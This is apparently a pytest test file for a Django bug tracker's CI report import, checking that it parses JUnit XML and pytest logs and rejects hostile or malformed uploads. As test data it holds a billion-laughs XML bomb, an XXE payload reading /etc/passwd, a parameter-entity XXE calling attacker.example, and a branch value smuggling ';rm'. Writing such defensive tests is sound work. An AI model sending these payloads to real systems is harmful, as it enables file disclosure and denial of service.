"""Reports from external CI: JUnit XML and pytest report logs, and the hostile ones refused."""

from __future__ import annotations

import io
import json

import pytest
from django.test import override_settings

from bugs.junit import node_id_from_junit
from bugs.models import BugResult, Result, Run
from bugs.parsers import ReportFormatError
from bugs.services.bugs import bug_create, bug_link_test
from bugs.uploads import parse_report

pytestmark = pytest.mark.django_db

JUNIT = b"""<?xml version="1.0" encoding="utf-8"?>
<testsuites><testsuite name="pytest" tests="4">
<testcase classname="tests.test_auth" name="test_ok" time="0.010"/>
<testcase classname="tests.test_auth.TestTokens" name="test_alg_none[hs256]" time="0.020">
  <failure message="AssertionError: accepted">Traceback...</failure></testcase>
<testcase classname="tests.test_auth" name="test_skip" time="0"><skipped message="not here"/></testcase>
<testcase classname="tests.test_auth" name="test_setup" time="0"><error message="fixture broke"/></testcase>
</testsuite></testsuites>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<testsuite><testcase classname="a" name="&lol3;"/></testsuite>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<testsuite><testcase classname="a" name="&xxe;"/></testsuite>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<testsuite/>"""


def _log(*records: dict[str, object]) -> bytes:
    return b"".join(json.dumps(r).encode() + b"\n" for r in [{"$report_type": "SessionStart", "pytest_version": "9"}, *records])


def _report(nodeid: str, when: str, outcome: str, **extra: object) -> dict[str, object]:
    return {"$report_type": "TestReport", "nodeid": nodeid, "when": when, "outcome": outcome, "duration": 0.1, **extra}


@pytest.mark.parametrize(
    ("classname", "name", "expected"),
    [
        ("tests.test_auth", "test_ok", "tests/test_auth.py::test_ok"),
        ("tests.test_auth.TestTokens", "test_x[1]", "tests/test_auth.py::TestTokens::test_x[1]"),
        ("test_top", "test_y", "test_top.py::test_y"),
    ],
)
def test_it_rebuilds_node_ids_from_junit(classname, name, expected):
    assert node_id_from_junit(classname, name, None) == expected


def test_it_reads_junit_outcomes():
    results = {r.node_id: r for r in parse_report(io.BytesIO(JUNIT))}
    assert results["tests/test_auth.py::test_ok"].outcome == "passed"
    failed = results["tests/test_auth.py::TestTokens::test_alg_none[hs256]"]
    assert failed.outcome == "failed"
    assert failed.message == "AssertionError: accepted"
    assert results["tests/test_auth.py::test_skip"].outcome == "skipped"
    assert results["tests/test_auth.py::test_setup"].outcome == "error"


def test_a_report_log_keeps_reruns_and_marks_a_late_pass_flaky():
    log = _log(
        _report("t.py::test_a", "setup", "passed"),
        _report("t.py::test_a", "call", "rerun", longrepr="boom"),
        _report("t.py::test_a", "setup", "passed"),
        _report("t.py::test_a", "call", "passed"),
        _report("t.py::test_a", "teardown", "passed"),
        _report("t.py::test_b", "setup", "passed"),
        _report(
            "t.py::test_b", "call", "failed", longrepr={"reprcrash": {"message": "assert 1 == 2"}, "reprtraceback": {"reprentries": []}}
        ),
        _report("t.py::test_b", "teardown", "passed"),
    )
    results = {r.node_id: r for r in parse_report(io.BytesIO(log))}
    assert (results["t.py::test_a"].outcome, results["t.py::test_a"].attempts, results["t.py::test_a"].is_flaky) == ("passed", 2, True)
    assert results["t.py::test_b"].outcome == "failed"
    assert results["t.py::test_b"].message == "assert 1 == 2"


@pytest.mark.parametrize("body", [BILLION_LAUGHS, XXE, XXE_PARAMETER, b"<testsuite><testcase", b"not a report at all", b"   "])
def test_hostile_or_broken_reports_are_refused_by_the_parser(body):
    with pytest.raises(ReportFormatError):
        parse_report(io.BytesIO(body))


def test_an_imported_junit_report_creates_a_finished_run_with_results_attached(staff_user, client_for, imports_inline):
    bug = bug_create(key="BUG-001", title="alg none", severity="P0")
    bug_link_test(bug=bug, node_id="tests/test_auth.py::TestTokens::test_alg_none[hs256]")
    response = client_for(staff_user).post(
        "/api/v1/runs/import/?commit_sha=abc1234&branch=main", data=JUNIT, content_type="application/xml"
    )
    assert response.status_code == 202, response.content
    run = Run.objects.get(pk=response.json()["id"])
    assert (run.status, run.total, run.passed, run.failed, run.errors, run.skipped) == ("failed", 4, 1, 1, 1, 1)
    assert (run.trigger, run.commit_sha, run.branch) == ("import", "abc1234", "main")
    assert BugResult.objects.get(bug=bug).result.outcome == "failed"


def test_a_report_log_can_be_uploaded_as_a_multipart_file(staff_user, client_for, imports_inline):
    from django.core.files.uploadedfile import SimpleUploadedFile

    log = _log(
        _report("t.py::test_a", "setup", "passed"), _report("t.py::test_a", "call", "passed"), _report("t.py::test_a", "teardown", "passed")
    )
    response = client_for(staff_user).post(
        "/api/v1/runs/import/", data={"file": SimpleUploadedFile("report.jsonl", log), "branch": "ci"}, format="multipart"
    )
    assert response.status_code == 202, response.content
    assert response.json()["branch"] == "ci"
    assert Result.objects.get().node_id == "t.py::test_a"


@pytest.mark.parametrize("body", [BILLION_LAUGHS, XXE, XXE_PARAMETER])
def test_hostile_junit_xml_is_refused_with_a_clear_400_and_nothing_stored(staff_user, client_for, body):
    response = client_for(staff_user).post("/api/v1/runs/import/", data=body, content_type="application/xml")
    assert response.status_code == 400
    assert response.json()["error"]["code"] == "INVALID_REPORT"
    assert not Run.objects.exists()
    assert not Result.objects.exists()


def test_a_report_over_the_size_limit_is_refused_with_413(staff_user, client_for):
    from bugs.api.views import RunImportView

    with override_settings(ATOM_MAX_UPLOAD_BYTES=10_000):
        response = client_for(staff_user).post("/api/v1/runs/import/", data=b"<" + b"x" * 20_000, content_type="application/xml")
    assert response.status_code == 413
    assert RunImportView.max_body_bytes >= 50 * 1024 * 1024
    assert not Run.objects.exists()


@pytest.mark.parametrize("params", ["?commit_sha=not-a-sha", "?branch=-x;rm", "?suite=nope"])
def test_bad_import_parameters_are_refused(staff_user, client_for, params):
    response = client_for(staff_user).post(f"/api/v1/runs/import/{params}", data=JUNIT, content_type="application/xml")
    assert response.status_code in (400, 404)
    assert not Run.objects.exists()


def _raw_log(record: str) -> bytes:
    return b'{"$report_type": "SessionStart", "pytest_version": "9"}\n' + record.encode() + b"\n"


_CALL = '{"$report_type": "TestReport", "nodeid": "t.py::test_a", "when": "call", "outcome": "failed", '


@pytest.mark.regression("BUG-030")
@pytest.mark.parametrize(
    "body",
    [
        _raw_log(_CALL + '"duration": "abc"}'),
        _raw_log(_CALL + '"duration": NaN}'),
        _raw_log(_CALL + '"duration": Infinity}'),
        _raw_log(_CALL + '"duration": -Infinity}'),
        _raw_log(_CALL + '"duration": 1e999}'),
        _raw_log(_CALL + '"duration": [1]}'),
        _raw_log(_CALL + '"duration": 0.1, "longrepr": {"reprcrash": "boom"}}'),
        _raw_log(_CALL + '"duration": 0.1, "longrepr": {"reprtraceback": "boom"}}'),
        _raw_log(_CALL + '"duration": 0.1, "longrepr": {"reprtraceback": {"reprentries": ["boom"]}}}'),
        _raw_log(_CALL + '"duration": 0.1, "longrepr": {"reprtraceback": {"reprentries": [{"data": {"lines": 3}}]}}}'),
        b'<testsuite><testcase classname="t" name="test_a" time="1e999"/></testsuite>',
        b'<testsuite><testcase classname="t" name="test_a" time="NaN"/></testsuite>',
        b'<testsuite><testcase classname="t" name="test_a" time="abc"/></testsuite>',
    ],
    ids=[
        "log-duration-text",
        "log-duration-nan",
        "log-duration-infinity",
        "log-duration-minus-infinity",
        "log-duration-overflow",
        "log-duration-list",
        "log-reprcrash-text",
        "log-reprtraceback-text",
        "log-reprentry-text",
        "log-lines-number",
        "junit-time-overflow",
        "junit-time-nan",
        "junit-time-text",
    ],
)
def test_p2_crash_malformed_report_import_regression(staff_user, client_for, body, imports_inline):
    """BUG-030 (P2, crash): importing a malformed report answered 500 or 503 instead of 400.

    A report log duration that is not a number, or a longrepr whose parts are not objects, raised in
    the parser (500); a NaN or infinite duration (report log NaN/Infinity, JUnit time="1e999") went
    into the JSON the database refused (503 "The database is unavailable."). Fix: durations must be
    finite numbers, the report log refuses NaN and Infinity, and the longrepr parts are type-checked;
    anything else is refused as INVALID_REPORT (commit recorded in the catalog). Since BUG-066 the route
    checks only the head and a worker reads the rest: what it refuses ends the run as an error instead.
    """
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = client_for(staff_user).post("/api/v1/runs/import/", data={"file": SimpleUploadedFile("report", body)}, format="multipart")
    assert response.status_code == 202, response.content
    run = Run.objects.get()
    assert run.status == "error"
    assert run.error_message.startswith("The report could not be read:")
    assert not Result.objects.exists()


@pytest.mark.regression("BUG-052")
@pytest.mark.parametrize(
    "body",
    ['{"suite": ' * 5_000 + '"x"' + "}" * 5_000, '{"suite": "\\ud800"}', '{"suite": 1e400}'],
    ids=["nested-5000", "lone-surrogate", "overflowing-number"],
)
def test_p2_crash_import_route_json_body_regression(body, staff_user, client_for):
    """BUG-052 (P2, crash): a deeply nested JSON body to runs/import/ answered 500.

    The import route listed DRF's own JSONParser, not Atom's, so it had none of the parser's
    protections: BUG-003's nesting limit, BUG-025's lone surrogates, BUG-027's overflowing numbers. The
    hostile-payload suite did not reach it because the schema declares no JSON body for this route.
    Fix: the route uses Atom's JSON parser (commit recorded in the catalog).
    """
    response = client_for(staff_user).generic("POST", "/api/v1/runs/import/", body, content_type="application/json")
    assert response.status_code == 400
    assert set(response.json()["error"]) == {"code", "message", "details"}
    assert not Run.objects.exists()
